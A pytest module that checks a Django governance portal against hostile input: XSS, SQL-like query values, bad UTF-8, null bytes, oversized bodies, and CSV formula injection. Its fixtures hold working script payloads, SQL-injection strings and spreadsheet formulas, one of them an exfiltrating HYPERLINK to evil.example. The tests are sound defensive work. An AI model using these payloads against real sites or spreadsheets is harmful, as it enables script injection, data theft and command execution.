"""Hostile input through the real views (issue 7): each gets a 4xx or an escaped display, never a 500,
and nothing stored is altered.

The cases are generated, not hand-picked: every URL the access matrix knows (tests/portal/access_world.py,
so a new view is swept here as soon as it has a row there), and every form found on those pages. A form's
free-text fields are filled with script payloads and everything else with valid values, so the form is
accepted and the payload stored; then every page is read again and must show the payloads only escaped.

- script payloads in every form (front end and our admin views), stored exactly as typed;
- rich text saved outside the editor (ORM, revisions) shown without markup that runs;
- SQL-like, negative, huge and unknown values in every GET parameter a page's forms use, and in the
  usual paging and ordering names, on every URL: never a 500, never a wider result;
- invalid UTF-8 and null bytes in query strings, paths and bodies; 10 MB, 30 MB (declared) and
  2,000-field bodies on every URL: a plain 400 or 413 and no row changed; 100,000-character answers;
- CSV exports: cells that a spreadsheet would run are made plain text.
"""

import csv
import io
from urllib.parse import urlencode, urlsplit

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib.auth import get_user_model
from django.db import models
from django.test import Client
from django.urls import reverse

from governance.models import Decision
from portal.home.models import HomePage, SiteSettings
from portal.home.setup import ensure_home_page
from tests.consultations.factories import make_response
from tests.factories import UserFactory

from .access_world import OUR_PACKAGES, World, build_world
from .hostile_world import (
    SCRIPT_PAYLOADS,
    SIGN_UP_PASSWORD,
    Form,
    all_urls,
    fill,
    is_free_text,
    parse_forms,
    raw_markup,
)

pytestmark = pytest.mark.django_db

PAYLOADS = list(SCRIPT_PAYLOADS.values())
SIGN_OUT = "/account/sign-out/"


# ---- the world and what is stored ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def built_world(module_db) -> World:
    """The world, built once for this module's tests (tests/conftest.py's module_db): each test's own
    changes are still rolled back after it."""
    with module_db.unblock():
        ensure_home_page()
        made = build_world(UserFactory, get_user_model())
        Client().get("/")  # the site settings row is made on first use
    made.objects["pages"] = {"ConsultationPage": made.objects["open_consultation"], "MinutesPage": made.objects["minutes"]}
    return made


@pytest.fixture
def world(built_world, home_page) -> World:
    """This test's copy of the world, every object read again from the database."""
    return built_world.reloaded()


def urls(world: World) -> list[tuple[str, str]]:
    return all_urls(world, world.objects["pages"])


# Fields that change on every visit, not because of what was sent.
VOLATILE = {"last_login"}


def our_models() -> list:
    return [m for m in apps.get_models() if m.__module__.startswith(OUR_PACKAGES) and not m._meta.proxy]


def snapshot() -> dict:
    """Every row of every model of ours (history tables included), as comparable text."""
    rows = {}
    for model in our_models():
        names = [f.attname for f in model._meta.concrete_fields if f.attname not in VOLATILE]
        rows[model._meta.label] = sorted(repr(tuple(map(_plain, row))) for row in model.objects.values_list(*names))
    return rows


def _plain(value):
    # A StreamField's value compares by its stored JSON, not by object identity.
    return value.get_prep_value() if hasattr(value, "raw_data") else value


def changed_tables(before: dict, after: dict) -> list[str]:
    return [label for label in before if before[label] != after[label]]


def stored_text(marker: str) -> list[tuple[str, str, str]]:
    """(model, field, value) for every text value of ours that contains `marker`."""
    found = []
    for model in our_models():
        for f in model._meta.concrete_fields:
            if isinstance(f, (models.CharField, models.TextField)):
                for value in model.objects.filter(**{f"{f.attname}__contains": marker}).values_list(f.attname, flat=True):
                    if marker in value:  # __contains ignores case on SQLite
                        found.append((model._meta.label, f.name, value))
    return found


def sign_in(client, user) -> None:
    client.logout()
    if user is not None:
        client.force_login(user)


def html_of(response) -> str:
    if "html" not in response.get("Content-Type", ""):
        return ""
    return response.content.decode("utf-8", "replace")


def escaping_problems(what: str, response) -> list[str]:
    """A 500, raw hostile markup, or a template tag that was run (the secret key shown)."""
    if response.status_code >= 500:
        return [f"{what}: {response.status_code}"]
    html = html_of(response)
    problems = [f"{what}: raw markup …{snippet}…" for snippet in raw_markup(html)]
    if settings.SECRET_KEY in html:
        problems.append(f"{what}: the secret key is on the page")
    return problems


# ---- 1. script payloads in every form ------------------------------------------------------------------
def _forms_on(client, url: str) -> list[Form]:
    response = client.get(url)
    if response.status_code != 200:
        return []
    return [f for f in parse_forms(html_of(response)) if f.action != SIGN_OUT]


def _submit(client, url: str, form: Form, text: str | list[str], n: int, problems: list, trail: set) -> None:
    """Send `form` (found on `url`) with `text` in its free-text fields; follow a multi-step flow (a
    consultation's questions, then its check page) by sending each next step's form too."""
    target = form.action or url
    data = fill(form, text, n)
    what = f"{form.method.upper()} {target} (from {url}) with {str(text)[:24]!r}"
    response = client.get(target, data) if form.method == "get" else client.post(target, data)
    problems += escaping_problems(what, response)
    if form.method == "post" and response.status_code == 302 and len(trail) < 12:
        following = response["Location"]
        # Only a flow that moves on to another page (the next question, the check page), not a page
        # that sends you back to itself to show what changed.
        if urlsplit(following).path in {urlsplit(step).path for step in trail}:
            return
        trail.add(following)
        for next_form in _forms_on(client, following):
            if next_form.method == "post" and not next_form.action:
                _submit(client, following, next_form, text, n, problems, trail)


def _has_free_text(form: Form) -> bool:
    return any(is_free_text(f) for f in form.fields)


def crawl_and_submit(client, world: World, viewer: str, url_list, problems: list, start: int = 0,
                     payloads: list[str] = PAYLOADS, together: bool = False) -> int:
    """As `viewer`, send every form with free text on `url_list` once per payload (or, `together`, once
    with the payloads shared out among its fields); returns how many were sent."""
    sent = 0
    user = world.users[viewer]
    for _, url in url_list:
        sign_in(client, user)
        for index, form in enumerate(_forms_on(client, url)):
            if not _has_free_text(form):
                continue
            for turn in range(1 if together else len(payloads)):
                # Each viewer ends on a different payload, so every payload stays stored somewhere.
                text = payloads if together else payloads[(start + turn) % len(payloads)]
                sign_in(client, user)
                _submit(client, url, form, text, sent, problems, {url})
                sent += 1
    return sent


# The models and fields the crawl must have stored a payload in, exactly as typed: proof that it reached
# the front-end forms of each app and our admin views, not only their error pages.
MUST_STORE = {
    ("accounts.User", "display_name"),  # profile
    ("consultations.Answer", "text"),  # a consultation's free-text questions
    ("consultations.Response", "consent_statement"),  # assisted entry
    ("consultations.Theme", "name"),  # analysts' themes
    ("governance.Decision", "title"),
    ("governance.Decision", "rationale"),
    ("governance.Action", "title"),
    ("governance.ActionUpdate", "text"),
    ("governance.Outcome", "what_changed"),
    ("governance.Body", "name"),  # admin viewsets from here on
    ("governance.Meeting", "location"),
    ("governance.AgendaItem", "description"),
    ("voting.Ballot", "description"),
    ("voting.BallotOption", "label"),
    ("proposals.Proposal", "title"),  # raising a proposal
    ("proposals.Proposal", "change"),
    ("contact.ContactMessage", "message"),  # the contact form (kept until its emails go: never, in a test)
    ("proposals.Comment", "text"),  # the comment form under a proposal
    ("proposals.Report", "reason"),  # "report this"
    ("proposals.Comment", "moderation_note"),  # a moderator's decision on a comment
    ("involvement.Interest", "note"),  # "I'm interested" on an opportunity
    ("involvement.Opportunity", "title"),  # staff adding an opportunity
    ("involvement.RateBand", "name"),  # finance adding a rate band
}


def test_script_payloads_in_every_form_are_stored_as_typed_and_only_ever_shown_escaped(client, world):
    """Every form with free text (found on every URL, as a superuser, and the personal forms as every
    viewer) is sent once per script payload; every answer must escape them, every accepted value must be
    stored exactly as typed, and then every page, as a superuser and anonymously, must show
    them only escaped (the superuser sees every page but the ballot paper, which shows no free text)."""
    url_list = urls(world)
    problems: list[str] = []
    sent = crawl_and_submit(client, world, "superuser", url_list, problems)
    personal = [(name, url) for name, url in url_list if name.startswith(("accounts:", "privacy:"))]
    for n, viewer in enumerate(world.users):
        if viewer != "superuser":
            sent += crawl_and_submit(client, world, viewer, personal, problems, start=n)
    # Signing up and signing in with a payload as the name, as someone not signed in.
    sent += crawl_and_submit(client, world, "anonymous", [("", "/account/sign-up/"), ("", "/account/sign-in/"),
                                                          ("", "/contact/")], problems, start=2)

    # Each marker with its quote, so a random salt or token (letters and digits) can never match one.
    markers = ('"hx1"', '"hx2"', '"hx3"', '"hx4"', "'hx5'")
    stored = [hit for marker in markers for hit in stored_text(marker)]
    altered = sorted({(model, name, value) for model, name, value in stored if value not in PAYLOADS})
    assert not altered, "Stored, but not exactly as typed:\n" + "\n".join(map(str, altered))
    missing = MUST_STORE - {(model, name) for model, name, _ in stored}
    assert not missing, f"The crawl stored no payload in {sorted(missing)}: did a form stop being found?"

    shown = 0
    for viewer in ("superuser", "anonymous"):
        sign_in(client, world.users[viewer])
        for what, url in url_list + [
            (f"decision {ref}", reverse("governance:decision-detail", args=[ref]))
            for ref in Decision.objects.values_list("reference", flat=True)
        ]:
            problems += escaping_problems(f"{viewer} GET {url} ({what})", client.get(url))
            shown += 1
    assert not problems, f"{len(problems)} of {sent} submissions and {shown} pages:\n" + "\n".join(problems)


def test_script_payloads_in_email_fields_are_refused_and_shown_escaped(client, world):
    """Email boxes (sign-up, password reset, contact, the done page's "hear what came of it") refuse a
    payload with the page shown again, escaped."""
    page = world.objects["open_consultation"]
    sent = make_response(page)  # answered without a name: the done page offers the email box
    hear_back = page.url + page.reverse_subpage("hear-back", args=[sent.resume_token])
    before = snapshot()
    problems = []
    for url, data in [
        ("/account/sign-up/", {"display_name": "Ann", "password": SIGN_UP_PASSWORD}),
        ("/account/password-reset/", {}),
        ("/contact/", {"about": "question", "message": "Hello"}),
        (hear_back, {}),
    ]:
        for payload in PAYLOADS:
            response = client.post(url, {**data, "email": payload})
            assert response.status_code in (200, 400), (url, payload, response.status_code)
            problems += escaping_problems(f"POST {url} email={payload!r}", response)
    assert not problems, "\n".join(problems)
    assert not changed_tables(before, snapshot())


# ---- 2. rich text (and question text) saved outside the editor -----------------------------------------
HOSTILE_RICH_TEXT = (
    '<p>Kept: <b>bold</b> and <a href="https://example.org/ok">a link</a>.</p>'
    '<script>alert("hx1")</script><p><img src=x onerror=alert("hx2")></p>'
    '<p><a href="javascript:alert(\'hx4\')">js link</a><a href=" JaVaScRiPt:alert(1)">spaced</a></p>'
    '<iframe src="https://evil.example/hx"></iframe><p onclick="alert(1)" style="x">styled</p>'
    "<svg onload=alert('hx5')></svg>"
)


def _home_body(world) -> str:
    home = HomePage.objects.get()
    home.body = [("paragraph", HOSTILE_RICH_TEXT), ("inset", {"text": HOSTILE_RICH_TEXT}),
                 ("details", {"summary": "More", "text": HOSTILE_RICH_TEXT})]
    home.save_revision().publish()
    return home.url


def _consultation(world) -> str:
    page = world.objects["open_consultation"]
    page.easy_read_summary = HOSTILE_RICH_TEXT
    page.save_revision().publish()
    return page.url


def _minutes(world) -> str:
    page = world.objects["minutes"]
    page.easy_read_summary = HOSTILE_RICH_TEXT
    page.sections = [{"type": "section", "value": {"heading": PAYLOADS[0], "text": HOSTILE_RICH_TEXT,
                                                   "confidential": False}}]
    page.save_revision().publish()
    return page.url


def _site_settings(field: str, url: str):
    def write(world) -> str:
        SiteSettings.objects.update_or_create(site_id=HomePage.objects.get().get_site().pk,
                                              defaults={field: HOSTILE_RICH_TEXT})
        return url
    return write


@pytest.mark.parametrize("place, write", [
    ("home page StreamField blocks", _home_body),
    ("consultation easy read summary", _consultation),
    ("minutes easy read and sections", _minutes),
    ("site settings crisis support (every footer)", _site_settings("crisis_support", "/")),
    ("site settings accessibility statement", _site_settings("accessibility_statement", "/accessibility/")),
    ("site settings involvement statement", _site_settings("involvement_statement", "/governance/evidence/")),
], ids=lambda v: v if isinstance(v, str) else "")
def test_rich_text_saved_outside_the_editor_is_shown_without_markup_that_runs(client, world, place, write):
    """Stored as written (nothing is altered), but shown with only our features' markup: the script,
    event handlers, javascript: links, frames and SVG are gone; bold and the https link stay."""
    url = write(world)
    html = html_of(client.get(url))
    assert "Kept: <b>bold</b>" in html and 'href="https://example.org/ok"' in html, f"{place}: not shown at all"
    assert not raw_markup(html), f"{place}: {raw_markup(html)}"
    for leftover in ("onclick", "<iframe", "javascript:", "JaVaScRiPt", 'style="x"'):
        assert leftover not in html, f"{place}: {leftover} reached the page"


def test_question_text_saved_outside_the_editor_is_escaped_on_every_step(client, world):
    """A question's prompt, hint and choices (editors' text, printed by crispy-forms-gds with |safe) are
    escaped on each question page and the check page."""
    page = world.objects["open_consultation"]
    for question in page.questions.all():
        question.prompt, question.help_text = PAYLOADS[0], PAYLOADS[1]
        if question.choices:
            question.choices = "\n".join([PAYLOADS[1], PAYLOADS[2], PAYLOADS[4]][: len(question.choice_list)])
        question.scale_low_label = question.scale_high_label = PAYLOADS[1]  # max 60 characters
        question.save()
    token = world.objects[f"draft_{page.pk}"].resume_token
    problems = []
    for number in range(1, page.questions.count() + 1):
        url = page.url + page.reverse_subpage("question", args=[token, number])
        problems += escaping_problems(f"GET {url}", client.get(url))
    url = page.url + page.reverse_subpage("check", args=[token])
    problems += escaping_problems(f"GET {url}", client.get(url))
    assert not problems, "\n".join(problems)


# ---- 4. SQL-like and out-of-range values in every GET parameter -----------------------------------------
SQL_LIKE = [
    "' OR 1=1 --", "1; DROP TABLE governance_decision; --", "%", "_", "\\", "x" * 5000, "-1",
    "99999999999999999999", "1e309", "-user__password", "2026-02-31", "31/02/2026", "[]", "𝕏😀",
]
# Paging, ordering and search names that list views commonly read, sent to every URL as well as the
# names of the GET forms found on each page.
COMMON_PARAMS = ["page", "p", "o", "ordering", "order", "sort", "q", "search", "from", "to", "body", "year",
                 "kind", "status", "theme", "question", "code", "next", "format"]


def _get_params(client, url: str) -> tuple[list[str], list[str]]:
    """The targets (the page, and where its GET forms send) and the parameter names its GET forms use."""
    response = client.get(url)
    forms = [f for f in parse_forms(html_of(response)) if f.method == "get"] if response.status_code == 200 else []
    targets = sorted({url} | {f.action for f in forms if f.action})
    return targets, sorted({name for f in forms for name in f.field_names()})


def test_sql_like_and_out_of_range_query_values_on_every_url_never_fail(client, world):
    """Every URL, as a superuser, with the hostile values shared out among every parameter its GET forms
    use and the usual paging/ordering/search names: on a page with filters, one request per value so every
    parameter gets every value; elsewhere two. A 200 or a 4xx, the value escaped if shown, no row changed."""
    sign_in(client, world.users["superuser"])
    plan = []
    for what, url in urls(world):
        targets, form_names = _get_params(client, url)
        names = sorted(set(form_names + COMMON_PARAMS))
        step = 1 if form_names else len(SQL_LIKE) // 2
        for target in targets:
            for turn in range(0, len(SQL_LIKE), step):
                plan.append((what, target, {name: SQL_LIKE[(turn + i) % len(SQL_LIKE)] for i, name in enumerate(names)}))
    before = snapshot()
    problems = []
    for what, target, params in plan:
        response = client.get(target, params)
        if response.status_code >= 500:
            problems.append(f"GET {target}?{urlencode(params)[:160]} ({what}): {response.status_code}")
        problems += escaping_problems(f"GET {target} ({what})", response)
    assert len(plan) > 300
    assert not problems, f"{len(problems)} of {len(plan)} requests:\n" + "\n".join(problems[:40])
    assert set(changed_tables(before, snapshot())) <= GET_WRITES


# What a GET may write: a consultation export is recorded in the ledger (with its actor's pseudonym), a
# person's preferences row is made the first time their profile is shown, and downloading a payment
# batch's CSV records when it was last downloaded.
GET_WRITES = {"audit.AuditEvent", "audit.ActorPseudonym", "accounts.Profile", "involvement.PaymentBatch"}


@pytest.mark.parametrize("url_name, params, absent", [
    ("governance_admin_bodies:index_results", {"q": "' OR 1=1 --"}, "Body ACM"),
    ("governance_admin_bodies:index_results", {"q": "%"}, "Body ACM"),
    ("governance_admin_bodies:index_results", {"q": "_"}, "Body ACM"),
    ("voting_admin_ballots:index_results", {"q": "' OR 1=1 --"}, "Open ballot"),
    ("voting_admin_ballots:index_results", {"q": "%"}, "Open ballot"),
    ("audit_ledger:index_results", {"q": "' OR 1=1 --"}, "ballot.opened"),
    ("audit:explorer", {"person": "' OR 1=1 --"}, "Open ballot"),
    ("audit:explorer", {"person": "%"}, "Open ballot"),
    ("audit:explorer", {"target_type": "' OR 1=1 --"}, "ballot.opened"),
    ("governance:decision-register", {"body": "' OR 1=1 --", "year": "1 OR 1=1", "outcome": "x' --"}, None),
], ids=lambda v: v if isinstance(v, str) else "")
def test_sql_like_filters_never_widen_the_results(client, world, url_name, params, absent):
    """A filter or search holding SQL-like text or wildcards matches nothing (or is ignored and says so),
    never more than no filter at all."""
    sign_in(client, world.users["superuser"])
    url = reverse(url_name)
    response = client.get(url, params)
    assert response.status_code in (200, 400), response.status_code
    html = html_of(response)
    if absent:
        assert absent not in html, f"{url_name} with {params} listed {absent!r}"
    else:  # the register ignores values it does not know: no more decisions than unfiltered
        unfiltered = html_of(client.get(url))
        assert html.count("/governance/decisions/ACM-") <= unfiltered.count("/governance/decisions/ACM-")


# ---- 3. invalid UTF-8, null bytes and oversized bodies ---------------------------------------------------
# Escaped bytes that are not UTF-8, raw ones (as WSGI hands them over, one str char per byte) and null
# characters, each in a different parameter, so one request carries all three.
BAD_QUERY_STRING = (
    "q=%FF%FE&page=%C3%28&o=%ED%A0%80&person=%F0%28%8C%28"
    "&ordering=\xff\xfe&search=\xc3\x28&code=\xe2\x82"
    "&p=a%00b&from=2026-01-01%00&body=%00&kind=%00&theme=%00&year=%00"
)
BAD_SEGMENTS = ["%FF%FE%C3%28", "\xff\xfe", "a%00b"]


def test_invalid_utf8_and_null_bytes_in_query_strings_and_paths_on_every_url(client, world):
    """Every URL, as a superuser and anonymously, with the bad query string; and, as a superuser, with
    its last path segment replaced by bad bytes: never a 500, nothing changed."""
    before = snapshot()
    problems, count = [], 0
    for viewer in ("superuser", "anonymous"):
        sign_in(client, world.users[viewer])
        for n, (what, url) in enumerate(urls(world)):
            path = urlsplit(url).path
            targets = [path]
            if viewer == "superuser":
                segments = path.rstrip("/").split("/")
                targets.append("/".join(segments[:-1] + [BAD_SEGMENTS[n % len(BAD_SEGMENTS)]]) + "/")
            for target in targets:
                response = client.generic("GET", target, QUERY_STRING=BAD_QUERY_STRING)
                count += 1
                if response.status_code >= 500:
                    problems.append(f"{viewer} GET {target} ({what}): {response.status_code}")
    assert not problems, f"{len(problems)} of {count}:\n" + "\n".join(problems)
    assert set(changed_tables(before, snapshot())) <= GET_WRITES


FORM = "application/x-www-form-urlencoded"
REFUSED_BODIES = {
    # name: (body, extra WSGI environ, the status it must get)
    "null-byte": (b"title=a%00b&text=ok&display_name=x%00&name=y", {}, 400),
    "2000-fields": ("&".join(f"f{i}=x" for i in range(2000)).encode(), {}, 400),
    "10MB-body": (b"text=" + b"a" * (10 * 1024 * 1024), {}, 400),
    "30MB-declared": (b"text=a", {"CONTENT_LENGTH": str(30 * 1024 * 1024)}, 413),
}


@pytest.mark.parametrize("case", list(REFUSED_BODIES), ids=str)
def test_refused_bodies_get_a_plain_4xx_on_every_url_and_change_nothing(client, world, case):
    """POSTed to every URL as a superuser (who may do anything, delete included): each is refused before
    any view runs, with the plain 400 or 413 page, and no row of ours changes."""
    body, extra, status = REFUSED_BODIES[case]
    sign_in(client, world.users["superuser"])
    before = snapshot()
    problems, count = [], 0
    for what, url in urls(world):
        response = client.generic("POST", url, body, content_type=FORM, **extra)
        count += 1
        if response.status_code != status:
            problems.append(f"POST {url} ({what}): {response.status_code}, not {status}")
        elif "<!DOCTYPE html>" not in response.content.decode()[:200]:
            problems.append(f"POST {url} ({what}): not the plain {status} page")
    assert not problems, f"{len(problems)} of {count}:\n" + "\n".join(problems)
    assert not changed_tables(before, snapshot())


def test_a_10mb_file_upload_is_refused_or_handled_without_a_500(client, world):
    """The one upload of ours (the returning officer's electorate list): 10 MB of junk gets an answer
    that says what is wrong, and no voter is added."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from voting.models import ListedVoter

    sign_in(client, world.users["superuser"])
    url = reverse("voting_admin_ballot_electorate", args=[world.objects["draft_ballot"].pk])
    junk = SimpleUploadedFile("list.csv", b"\xff\xfe=cmd|' /C calc'!A0\x00," * (10 * 1024 * 1024 // 24))
    response = client.post(url, {"list": junk})
    assert response.status_code < 500
    assert not ListedVoter.objects.exists()


def _free_text_forms(client, world) -> list[tuple[str, Form]]:
    sign_in(client, world.users["superuser"])
    return [(url, form) for _, url in urls(world) for form in _forms_on(client, url)
            if form.method == "post" and _has_free_text(form)]


def _urlencoded(data: dict, text_bytes: bytes, form: Form) -> bytes:
    """`data` as a form body, with each free-text field holding the raw bytes `text_bytes`."""
    free = {f.name for f in form.fields if is_free_text(f)}
    parts = []
    for name, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            encoded = text_bytes if name in free else urlencode({"v": item})[2:].encode()
            parts.append(urlencode({"k": name})[2:].encode() + b"=" + encoded)
    return b"&".join(parts)


def test_invalid_utf8_and_100000_characters_in_every_free_text_form(client, world):
    """Every form with free text, as a superuser:
    - its text fields holding bytes that are not UTF-8, escaped (%FF) and raw: a 4xx, or accepted with
      each bad byte read as U+FFFD (escaped) or as Latin-1 (raw, which no browser sends): never a 500;
    - its text fields holding 100,000 characters: accepted and stored whole, or the form shown again
      saying what is wrong; never a 500, never cut short."""
    long_text = "Long answer " + "z" * (100_000 - 24) + " ends here."
    problems, count = [], 0
    for url, form in _free_text_forms(client, world):
        target = form.action or url
        for bad in (b"%FF%FE%C3%28zqmark", b"\xff\xfe\xc3(zqmark"):
            sign_in(client, world.users["superuser"])
            response = client.generic("POST", target, _urlencoded(fill(form, "x", count), bad, form), content_type=FORM)
            count += 1
            if response.status_code >= 500:
                problems.append(f"POST {target} (from {url}) {bad!r}: {response.status_code}")
        sign_in(client, world.users["superuser"])
        response = client.post(target, fill(form, long_text, count))
        count += 1
        if response.status_code >= 500:
            problems.append(f"POST {target} (from {url}) 100,000 characters: {response.status_code}")
        elif response.status_code != 302 and "error" not in html_of(response):
            problems.append(f"POST {target} (from {url}) 100,000 characters: {response.status_code}, no message")
    assert count > 45, "too few forms were found"
    assert not problems, f"{len(problems)} of {count}:\n" + "\n".join(problems)
    for model, name, value in stored_text("zqmark"):
        assert value in ("\ufffd\ufffd\ufffd(zqmark", "\xff\xfe\xc3(zqmark"), (model, name, value)
    stored = stored_text("z" * 100)
    assert stored, "no form accepted a long text"
    cut = [(model, name, len(value)) for model, name, value in stored if value != long_text]
    assert not cut, f"Stored cut short or altered: {cut}"


# ---- 5. CSV exports ---------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_exports_make_formulas_plain_text(client, world, django_capture_on_commit_callbacks):
    """Formula payloads typed into every free-text form (consultation answers, themes, decisions and
    their reasons...), then every CSV the portal makes: every URL that answers text/csv, and the evidence
    report's CSV job. No cell may start with = + - @ tab or CR; the payloads are there, apostrophed."""
    from portal.csv_safety import FORMULA_STARTS

    problems: list[str] = []
    url_list = urls(world)
    crawl_and_submit(client, world, "superuser", url_list, problems, payloads=FORMULAS, together=True)
    sign_in(client, world.users["superuser"])
    files = {}
    for what, url in url_list + [("decision history", reverse("governance:decision-history-csv", args=[ref]))
                                 for ref in Decision.objects.values_list("reference", flat=True)]:
        response = client.get(url)
        if response.status_code == 200 and response.get("Content-Type", "").startswith("text/csv"):
            files[f"{what} {url}"] = b"".join(response.streaming_content if response.streaming else [response.content])
    with django_capture_on_commit_callbacks(execute=True):  # the job runs once its row is committed
        job = client.post(reverse("governance:evidence-export"), {"format": "csv"})
    assert job.status_code == 302
    download = client.get(job["Location"].rstrip("/") + "/download/")
    assert download.status_code == 200, download.status_code
    files["evidence report job"] = b"".join(download.streaming_content if download.streaming else [download.content])

    assert any("export-csv" in name for name in files) and any("history" in name for name in files)
    seen = set()
    for name, content in files.items():
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    problems.append(f"{name}: a cell a spreadsheet would run: {cell[:60]!r}")
                # Forms strip leading and trailing whitespace, so "\t=1+1" is stored (and exported) as "=1+1".
                seen.update(f for f in FORMULAS if ("'" + f.strip()) in cell)
    assert not problems, "\n".join(problems)
    assert seen == set(FORMULAS), f"payloads never reached an export: {set(FORMULAS) - seen}"


@pytest.mark.parametrize("typed", FORMULAS + ["\t=1", "\r=1", "@x", "-1", "+1"], ids=repr)
def test_formula_safe_gives_every_formula_start_an_apostrophe(typed):
    from portal.csv_safety import formula_safe

    assert formula_safe(typed) == "'" + typed
    assert formula_safe("Plain words = fine") == "Plain words = fine"
